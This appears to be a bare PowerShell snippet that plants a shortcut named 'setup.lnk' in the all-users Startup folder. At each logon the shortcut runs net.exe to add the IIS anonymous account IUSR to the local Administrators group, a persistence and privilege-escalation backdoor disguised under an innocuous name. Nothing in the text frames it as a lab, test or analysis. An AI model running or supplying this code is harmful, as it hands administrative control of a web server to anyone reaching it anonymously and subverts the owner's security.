$link = (New-Object -ComObject WScript.Shell).CreateShortcut('C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\setup.lnk')
$link.TargetPath = 'C:\Windows\System32\net.exe'
$link.Arguments = 'localgroup Administrators IUSR /add'
$link.Save()
